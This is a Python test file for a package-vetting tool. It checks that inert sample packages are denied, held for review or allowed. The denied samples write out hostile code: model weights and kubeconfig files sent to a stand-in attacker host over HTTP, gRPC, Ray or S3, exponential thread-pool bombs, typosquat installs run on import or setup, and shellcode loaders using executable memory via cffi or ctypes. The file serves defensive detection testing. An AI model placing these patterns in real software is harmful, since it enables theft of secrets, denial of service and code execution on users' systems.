"""The twentieth probe (ADR 0119): the shapes ADR 0110, 0113 and 0116 left open. A thread
pool whose jobs queue themselves, weights streamed to a gRPC method or handed to a Ray task,
a remote file system's own ``open``, a tool's credential file or weights read through a path
object, pip run in-process by ``runpy``, look-alikes installed by uv, poetry, pipx or
easy_install, and shellcode loaders through cffi or libc's ``mmap``.

Each sample is inert (vetting only reads files). The near-misses are what thread pools,
Ray jobs, fsspec users, Kubernetes clients, tools listing packages and cffi bindings do."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.pretenders import installed_names
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

W = "/models/llama/model.safetensors"
URL = "https://sink.attacker.invalid/c"
SO_BYTES = "\x7fELF\x02\x01\x01" + "\x00" * 57
EXEC_MAP = "mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)"


def _sent(read: str, *, on_import: bool) -> dict[str, str]:
    """A module that reads a file by ``read`` and posts it to a written URL, on import or
    from a function when it is called."""
    if on_import:
        return init(
            f"import os, requests\nfrom pathlib import Path\ncfg = {read}\n"
            f"requests.post('{URL}', data=cfg)\n"
        )
    return init(
        "import os, requests\nfrom pathlib import Path\n"
        f"def sync():\n    cfg = {read}\n    requests.post('{URL}', data=cfg)\n"
    )


KUBE_BY_PATH = "(Path.home() / '.kube' / 'config').read_text()"

DENIED: dict[str, dict[str, str]] = {
    # 1. A thread pool whose jobs queue themselves twice each (jobs double every round),
    # a pool made per job, and pools made without end.
    "thread-pool-job-queueing-itself-twice-on-import": init(
        "from concurrent.futures import ThreadPoolExecutor\n"
        "ex = ThreadPoolExecutor(max_workers=10000)\n"
        "def grow():\n    ex.submit(grow)\n    ex.submit(grow)\n"
        "grow()\n"
    ),
    "thread-pool-made-per-job-queueing-itself-twice-on-import": init(
        "import concurrent.futures as cf\n"
        "def grow():\n"
        "    with cf.ThreadPoolExecutor() as ex:\n"
        "        ex.submit(grow)\n        ex.submit(grow)\n"
        "grow()\n"
    ),
    "thread-pools-made-without-end-on-import": init(
        "from concurrent.futures import ThreadPoolExecutor\n"
        "def spin():\n    while True:\n        pass\n"
        "while True:\n    ThreadPoolExecutor(4).submit(spin)\n"
    ),
    # 2. Weights streamed to a gRPC method, and handed to a Ray task on a written cluster.
    "weights-streamed-by-iter-over-a-lambda-to-grpc-on-import": init(
        "import grpc\n"
        "ch = grpc.insecure_channel('203.0.113.5:50051')\n"
        "up = ch.stream_unary('/x.Store/Upload')\n"
        f"f = open('{W}', 'rb')\n"
        "up(iter(lambda: f.read(65536), b''))\n"
    ),
    "weights-streamed-by-a-generator-to-a-grpc-stub-when-called": init(
        "import grpc\nfrom evpkg import store_pb2_grpc\n"
        "def chunks():\n"
        f"    with open('{W}', 'rb') as f:\n"
        "        while b := f.read(65536):\n            yield b\n"
        "def sync():\n"
        "    ch = grpc.insecure_channel('203.0.113.5:50051')\n"
        "    store_pb2_grpc.StoreStub(ch).Upload(chunks())\n"
    ),
    "weights-posted-as-a-generator-on-import": init(
        "import requests\n"
        "def chunks():\n"
        f"    with open('{W}', 'rb') as f:\n"
        "        while b := f.read(65536):\n            yield b\n"
        f"requests.post('{URL}', data=chunks())\n"
    ),
    "weights-handed-to-a-ray-task-on-import": init(
        "import ray\n"
        "ray.init(address='ray://203.0.113.5:10001')\n"
        "@ray.remote\ndef keep(b):\n    return len(b)\n"
        f"keep.remote(open('{W}', 'rb').read())\n"
    ),
    "weights-handed-to-a-ray-task-when-called": init(
        "import ray\n"
        "@ray.remote(num_cpus=1)\ndef keep(b):\n    return len(b)\n"
        "def sync():\n"
        "    ray.init(address='ray://sink.attacker.invalid:10001')\n"
        f"    ray.get(keep.remote(open('{W}', 'rb').read()))\n"
    ),
    "weights-sent-by-a-grpc-stubs-future-when-called": init(
        "import grpc\nfrom evpkg import store_pb2_grpc\n"
        "def sync():\n"
        "    ch = grpc.insecure_channel('203.0.113.5:50051')\n"
        f"    store_pb2_grpc.StoreStub(ch).Put.future(open('{W}', 'rb').read())\n"
    ),
    "weights-handed-to-a-ray-actors-method-when-called": init(
        "import ray\n"
        "@ray.remote\nclass Store:\n    def put(self, b):\n        return len(b)\n"
        "def sync():\n"
        "    ray.init(address='ray://203.0.113.5:10001')\n"
        "    s = Store.remote()\n"
        f"    ray.get(s.put.remote(open('{W}', 'rb').read()))\n"
    ),
    # 3. A remote file system's own ``open`` and ``pipe`` on a bucket; a remote file
    # copied into by ``copyfileobj``.
    "weights-copied-into-a-remote-file-when-called": init(
        "import fsspec, shutil\n"
        "def sync():\n"
        f"    with open('{W}', 'rb') as src, fsspec.open('s3://bucket-x/k', 'wb') as dst:\n"
        "        shutil.copyfileobj(src, dst)\n"
    ),
    "weights-written-by-an-fsspec-filesystems-open-on-import": init(
        "import fsspec\n"
        "fs = fsspec.filesystem('s3')\n"
        f"fs.open('s3://bucket-x/k', 'wb').write(open('{W}', 'rb').read())\n"
    ),
    "weights-written-by-an-fsspec-filesystems-open-when-called": init(
        "import fsspec\n"
        "def sync():\n"
        "    fs = fsspec.filesystem('s3', anon=False)\n"
        f"    weights = open('{W}', 'rb').read()\n"
        "    with fs.open('s3://bucket-x/k', 'wb') as out:\n        out.write(weights)\n"
    ),
    "weights-written-by-s3fs-open-without-a-scheme-when-called": init(
        "import s3fs\n"
        "def sync():\n"
        "    fs = s3fs.S3FileSystem()\n"
        f"    weights = open('{W}', 'rb').read()\n"
        "    with fs.open('bucket-x/k', 'wb') as out:\n        out.write(weights)\n"
    ),
    "weights-piped-to-a-bucket-when-called": init(
        "import fsspec\n"
        "def sync():\n"
        "    fs = fsspec.filesystem('gcs')\n"
        f"    fs.pipe('gs://bucket-x/k', open('{W}', 'rb').read())\n"
    ),
    # 4. Kubeconfig read through a path object and sent on import (as ``open`` of
    # ``expanduser``'s path already was).
    "kubeconfig-read-by-path-home-sent-on-import": _sent(KUBE_BY_PATH, on_import=True),
    "kubeconfig-read-by-path-expanduser-sent-on-import": _sent(
        "Path('~/.kube/config').expanduser().read_bytes()", on_import=True
    ),
    "kubeconfig-opened-by-its-path-object-sent-on-import": _sent(
        "open(Path.home() / '.kube' / 'config').read()", on_import=True
    ),
    # Weights read through a path object and sent (as ``open(W, 'rb').read()`` is denied).
    "weights-read-by-a-path-object-posted-when-called": init(
        "import requests\nfrom pathlib import Path\n"
        f"def sync():\n    requests.post('{URL}', data=Path('{W}').read_bytes())\n"
    ),
    "weights-read-by-a-path-object-sent-by-grpc-when-called": init(
        "import grpc\nfrom pathlib import Path\n"
        "def sync():\n"
        "    ch = grpc.insecure_channel('203.0.113.5:50051')\n"
        f"    ch.unary_unary('/x.S/Put')(Path('{W}').read_bytes())\n"
    ),
    "weights-read-by-a-path-object-posted-on-import": init(
        "import requests\nfrom pathlib import Path\n"
        f"requests.post('{URL}', data=Path('{W}').read_bytes())\n"
    ),
    # 5. pip run in-process by ``runpy`` installing a look-alike, on import or install.
    "lookalike-installed-by-runpy-pip-on-import": init(
        "import runpy, sys\n"
        "sys.argv = ['pip', 'install', 'reqeusts']\n"
        "runpy.run_module('pip', run_name='__main__')\n"
    ),
    "lookalike-installed-by-runpy-pip-in-setup": {
        "setup.py": "import runpy, sys\nfrom setuptools import setup\n"
        "sys.argv = ['pip', 'install', 'python-dateutils']\n"
        "runpy.run_module('pip', run_name='__main__')\n"
        "setup(name='evpkg', version='1.0')\n",
        "evpkg/__init__.py": "",
    },
    # Look-alikes installed on import by installers other than pip (all fetch from PyPI).
    "lookalike-added-by-uv-on-import": init(
        "import subprocess\nsubprocess.run(['uv', 'add', 'colourama'])\n"
    ),
    "lookalike-added-by-poetry-on-import": init(
        "import subprocess\nsubprocess.run(['poetry', 'add', '--quiet', 'reqeusts'])\n"
    ),
    "lookalike-installed-by-pipx-on-import": init(
        "import subprocess\nsubprocess.run(['pipx', 'install', 'colourama'])\n"
    ),
    "lookalike-installed-by-uv-tool-on-import": init(
        "import subprocess\nsubprocess.run(['uv', 'tool', 'install', 'colourama'])\n"
    ),
    "lookalike-installed-by-easy-install-in-setup": {
        "setup.py": "import os\nfrom setuptools import setup\n"
        "os.system('easy_install python-dateutils')\n"
        "setup(name='evpkg', version='1.0')\n",
        "evpkg/__init__.py": "",
    },
    # 6. Shellcode loaders through cffi, and through libc's own ``mmap``.
    "cffi-cast-of-an-executable-mapping-on-import": init(
        "import mmap\nfrom cffi import FFI\n"
        f"m = {EXEC_MAP}\n"
        "m.write(bytes([0x90, 0x90, 0xc3]))\n"
        "ffi = FFI()\n"
        "ffi.cast('void(*)(void)', ffi.from_buffer(m))()\n"
    ),
    "cffi-cast-of-an-executable-mapping-when-called": init(
        "import mmap\nfrom cffi import FFI\n"
        "ffi = FFI()\n"
        "def run(code):\n"
        f"    m = {EXEC_MAP}\n"
        "    m.write(code)\n"
        "    ffi.cast('void (*)(void)', ffi.from_buffer(m))()\n"
    ),
    "cffi-cast-of-a-buffer-made-executable-by-mprotect-on-import": init(
        "from cffi import FFI\n"
        "ffi = FFI()\n"
        "ffi.cdef('int mprotect(void *addr, size_t len, int prot);')\n"
        "C = ffi.dlopen(None)\n"
        "code = ffi.new('char[]', 4096)\n"
        "addr = int(ffi.cast('uintptr_t', code)) & ~0xfff\n"
        "C.mprotect(ffi.cast('void *', addr), 8192, 7)\n"
        "ffi.cast('void(*)(void)', code)()\n"
    ),
    "cffi-cast-of-libc-mmap-on-import": init(
        "from cffi import FFI\n"
        "ffi = FFI()\n"
        "ffi.cdef('void *mmap(void *, size_t, int, int, int, long);"
        " void *memcpy(void *, const void *, size_t);')\n"
        "C = ffi.dlopen(None)\n"
        "code = b'\\x90\\x90\\xc3'\n"
        "p = C.mmap(ffi.NULL, 4096, 7, 0x22, -1, 0)\n"
        "C.memcpy(p, code, len(code))\n"
        "ffi.cast('void(*)(void)', p)()\n"
    ),
    "ctypes-prototype-on-libc-mmap-on-import": init(
        "import ctypes\n"
        "libc = ctypes.CDLL(None)\n"
        "libc.mmap.restype = ctypes.c_void_p\n"
        "code = b'\\x90\\x90\\xc3'\n"
        "p = libc.mmap(None, 4096, 7, 0x22, -1, 0)\n"
        "ctypes.memmove(p, code, len(code))\n"
        "ctypes.CFUNCTYPE(None)(p)()\n"
    ),
}

HELD: dict[str, dict[str, str]] = {
    # 4. Tools' credential files read through a path object and sent when called: held for
    # a person, as ADR 0110 holds the ``open`` of ``expanduser``'s path.
    "kubeconfig-read-by-path-home-sent-when-called": _sent(KUBE_BY_PATH, on_import=False),
    "docker-config-read-by-joinpath-sent-when-called": _sent(
        "Path.home().joinpath('.docker', 'config.json').read_text()", on_import=False
    ),
    # 5. pip run in-process by ``runpy`` installing an ordinary name on import (as ADR
    # 0116's subprocess form and ``pip.main`` hold).
    "ordinary-name-installed-by-runpy-pip-on-import": init(
        "import runpy, sys\n"
        "sys.argv = ['pip', 'install', '-q', 'numpy']\n"
        "runpy.run_module('pip', run_name='__main__', alter_sys=True)\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    # 1. Thread pools as libraries use them.
    "thread-pool-mapping-a-callers-function": init(
        "from concurrent.futures import ThreadPoolExecutor\n"
        "def fetch_all(urls, get):\n"
        "    with ThreadPoolExecutor(8) as ex:\n        return list(ex.map(get, urls))\n"
    ),
    "thread-pool-walk-submitting-itself-per-folder-on-import": init(
        "from concurrent.futures import ThreadPoolExecutor\nimport os\n"
        "ex = ThreadPoolExecutor(4)\n"
        "def walk(d):\n"
        "    for e in os.scandir(d):\n"
        "        if e.is_dir():\n            ex.submit(walk, e.path)\n"
        "walk('.')\n"
    ),
    "thread-pool-job-requeueing-itself-once-on-import": init(
        "from concurrent.futures import ThreadPoolExecutor\nimport time\n"
        "ex = ThreadPoolExecutor(1)\n"
        "def tick():\n    time.sleep(60)\n    ex.submit(tick)\n"
        "ex.submit(tick)\n"
    ),
    "thread-pool-serving-a-queue-without-end-on-import": init(
        "import queue\nfrom concurrent.futures import ThreadPoolExecutor\n"
        "jobs = queue.Queue()\nex = ThreadPoolExecutor(4)\n"
        "def handle(job):\n    return job\n"
        "def serve():\n    while True:\n        ex.submit(handle, jobs.get())\n"
    ),
    # 2. gRPC streams and Ray tasks of the caller's data, or on the local machine.
    "grpc-stream-of-a-callers-file-to-a-configured-host": init(
        "import grpc, os\nfrom evpkg import store_pb2_grpc\n"
        "def upload(path):\n"
        "    ch = grpc.insecure_channel(os.environ['STORE'])\n"
        "    f = open(path, 'rb')\n"
        "    store_pb2_grpc.StoreStub(ch).Upload(iter(lambda: f.read(65536), b''))\n"
    ),
    "ray-task-of-weights-on-the-local-machine": init(
        "import ray\n"
        "@ray.remote\ndef score(b):\n    return len(b)\n"
        "def run():\n    ray.init()\n"
        f"    return ray.get(score.remote(open('{W}', 'rb').read()))\n"
    ),
    "ray-task-of-a-callers-file-on-the-callers-cluster": init(
        "import ray\n"
        "@ray.remote\ndef score(b):\n    return len(b)\n"
        "def run(path, address):\n    ray.init(address=address)\n"
        "    return ray.get(score.remote(open(path, 'rb').read()))\n"
    ),
    "generator-of-log-lines-posted-when-called": init(
        "import requests, socket\n"
        "def lines():\n    yield socket.gethostname().encode()\n    yield b'started'\n"
        f"def report():\n    requests.post('{URL}', data=lines())\n"
    ),
    "grpc-future-of-a-callers-request": init(
        "import grpc, os\nfrom evpkg import store_pb2_grpc\n"
        "def put(request):\n"
        "    ch = grpc.insecure_channel(os.environ['STORE'])\n"
        "    return store_pb2_grpc.StoreStub(ch).Put.future(request)\n"
    ),
    "ray-actor-scoring-a-callers-file-on-the-local-machine": init(
        "import ray\n"
        "@ray.remote\nclass Scorer:\n    def score(self, b):\n        return len(b)\n"
        "def run(path):\n    ray.init()\n"
        "    return ray.get(Scorer.remote().score.remote(open(path, 'rb').read()))\n"
    ),
    # A settings file's candidates from the environment, one opened as a URL if it is one,
    # on import (matplotlib's ``matplotlibrc``): a generator's yields of settings are no data.
    "config-candidates-from-the-environment-opened-as-a-url-on-import": init(
        "import contextlib, os\n"
        "def config_file():\n"
        "    def candidates():\n"
        "        yield 'evpkgrc'\n"
        "        try:\n            rc = os.environ['EVPKGRC']\n"
        "        except KeyError:\n            pass\n"
        "        else:\n            yield rc\n            yield os.path.join(rc, 'evpkgrc')\n"
        "    for fname in candidates():\n"
        "        if os.path.exists(fname) and not os.path.isdir(fname):\n"
        "            return fname\n"
        "    raise RuntimeError('no evpkgrc')\n"
        "@contextlib.contextmanager\n"
        "def open_file_or_url(fname):\n"
        "    if isinstance(fname, str) and fname.startswith(('http://', 'https://')):\n"
        "        import urllib.request\n"
        "        with urllib.request.urlopen(fname) as f:\n"
        "            yield (line.decode('utf-8') for line in f)\n"
        "    else:\n"
        "        with open(os.path.expanduser(fname), encoding='utf-8') as f:\n"
        "            yield f\n"
        "def params_from_file(fname):\n"
        "    with open_file_or_url(fname) as fd:\n"
        "        return dict(line.split(':', 1) for line in fd)\n"
        "PARAMS = params_from_file(config_file())\n"
    ),
    # 3. Remote file systems reading, writing a report, or writing a local cache; weights
    # downloaded from a bucket by ``copyfileobj``.
    "weights-downloaded-from-a-bucket-by-copyfileobj": init(
        "import fsspec, shutil\n"
        "def fetch():\n"
        f"    with fsspec.open('s3://models-x/m', 'rb') as src, open('{W}', 'wb') as dst:\n"
        "        shutil.copyfileobj(src, dst)\n"
    ),
    "fsspec-filesystem-reading-a-callers-url": init(
        "import fsspec\n"
        "def load(url):\n"
        "    fs = fsspec.filesystem('s3')\n"
        "    with fs.open(url, 'rb') as f:\n        return f.read()\n"
    ),
    "fsspec-filesystem-writing-a-report-to-a-bucket": init(
        "import fsspec, json\n"
        "def report(stats):\n"
        "    fs = fsspec.filesystem('s3')\n"
        "    with fs.open('s3://reports/x.json', 'w') as out:\n"
        "        out.write(json.dumps(stats))\n"
    ),
    "fsspec-local-filesystem-caching-weights": init(
        "import fsspec\n"
        "def cache():\n"
        "    fs = fsspec.filesystem('file')\n"
        "    with fs.open('/tmp/cache/m', 'wb') as out:\n"
        f"        out.write(open('{W}', 'rb').read())\n"
    ),
    "s3fs-writing-a-callers-bytes-to-a-callers-key": init(
        "import s3fs\n"
        "def put(key, data):\n"
        "    with s3fs.S3FileSystem().open(key, 'wb') as out:\n        out.write(data)\n"
    ),
    # 4. A Kubernetes client reading kubeconfig to call its own cluster; probing for it.
    "kubeconfig-read-by-path-to-call-its-own-cluster": init(
        "from pathlib import Path\nimport yaml, requests\n"
        "def pods():\n"
        "    cfg = yaml.safe_load((Path.home() / '.kube' / 'config').read_text())\n"
        "    server = cfg['clusters'][0]['cluster']['server']\n"
        "    token = cfg['users'][0]['user']['token']\n"
        "    auth = {'Authorization': 'Bearer ' + token}\n"
        "    return requests.get(server + '/api/v1/pods', headers=auth).json()\n"
    ),
    "kubeconfig-looked-for-on-import": init(
        "from pathlib import Path\nHAS_KUBE = (Path.home() / '.kube' / 'config').exists()\n"
    ),
    # Weights read through a path object to be loaded here; a shipped model read by its
    # path on import; a caller's file read by its path and posted when called.
    "weights-read-by-a-path-object-and-loaded-on-import": init(
        "from pathlib import Path\nfrom safetensors.torch import load\n"
        f"STATE = load(Path('{W}').read_bytes())\n"
    ),
    "shipped-model-read-by-its-path-on-import": init(
        "from pathlib import Path\nimport onnxruntime\n"
        "MODEL = (Path(__file__).parent / 'detector.onnx').read_bytes()\n"
        "SESSION = onnxruntime.InferenceSession(MODEL)\n"
    ),
    "callers-file-read-by-a-path-object-posted-when-called": init(
        "import requests\nfrom pathlib import Path\n"
        f"def send(path):\n    requests.post('{URL}', data=Path(path).read_bytes())\n"
    ),
    # 5. pip listing packages, by subprocess or runpy, when called; the package's own module
    # run by runpy.
    "pip-list-by-subprocess-when-called": init(
        "import subprocess, sys\n"
        "def installed():\n"
        "    cmd = [sys.executable, '-m', 'pip', 'list', '--format=json']\n"
        "    return subprocess.run(cmd, capture_output=True).stdout\n"
    ),
    "pip-list-by-runpy-when-called": init(
        "import runpy, sys\n"
        "def show():\n    sys.argv = ['pip', 'list']\n"
        "    runpy.run_module('pip', run_name='__main__')\n"
    ),
    "dependency-added-by-poetry-when-called": init(
        "import subprocess\ndef add(name):\n    subprocess.run(['poetry', 'add', name])\n"
    ),
    "file-named-like-a-lookalike-added-to-git-on-import": init(
        "import subprocess\nsubprocess.run(['git', 'add', 'colourama'])\n"
    ),
    "own-cli-run-by-runpy-when-called": init(
        "import runpy\ndef cli():\n    runpy.run_module('evpkg.cli', run_name='__main__')\n"
    ),
    # 6. cffi bindings: the system's libc, a shipped library, a pointer cast to an integer,
    # a callback, a function pointer taken from a library; libc's mmap of read-write memory.
    "cffi-binding-the-system-libc": init(
        "from cffi import FFI\n"
        "ffi = FFI()\nffi.cdef('size_t strlen(const char *);')\n"
        "C = ffi.dlopen(None)\nlibc = ffi.dlopen('libc.so.6')\n"
        "def n(s):\n    return C.strlen(s)\n"
    ),
    "cffi-binding-a-shipped-library-on-import": {
        **init(
            "import os\nfrom cffi import FFI\n"
            "ffi = FFI()\nffi.cdef('int add(int, int);')\n"
            "lib = ffi.dlopen(os.path.join(os.path.dirname(__file__), '_add.so'))\n"
        ),
        "evpkg/_add.so": SO_BYTES,
    },
    "cffi-pointer-cast-to-an-integer": init(
        "from cffi import FFI\n"
        "ffi = FFI()\n"
        "def addr(p):\n    return int(ffi.cast('uintptr_t', p))\n"
    ),
    "cffi-callback": init(
        "from cffi import FFI\n"
        "ffi = FFI()\n"
        "@ffi.callback('int(int)')\ndef cb(x):\n    return x + 1\n"
    ),
    "cffi-function-pointer-from-a-library": init(
        "from cffi import FFI\n"
        "ffi = FFI()\nffi.cdef('void *dlsym(void *, const char *);')\n"
        "C = ffi.dlopen(None)\n"
        "def symbol(handle, name):\n"
        "    return ffi.cast('int(*)(int)', C.dlsym(handle, name.encode()))\n"
    ),
    "ctypes-libc-mmap-of-read-write-memory": init(
        "import ctypes\n"
        "libc = ctypes.CDLL(None)\n"
        "def buf(n):\n    return libc.mmap(None, n, 3, 0x22, -1, 0)\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


@pytest.mark.parametrize(
    ("command", "names"),
    [
        ("uv add colourama", ["colourama"]),
        ("poetry add --quiet reqeusts==2.0", ["reqeusts"]),
        ("uv tool install colourama", ["colourama"]),
        ("easy_install python-dateutils", ["python-dateutils"]),
        ("sys.executable -m pip install -q numpy", ["numpy"]),
        ("git add colourama", []),
    ],
)
def test_installed_names(command: str, names: list[str]) -> None:
    assert installed_names(command) == names
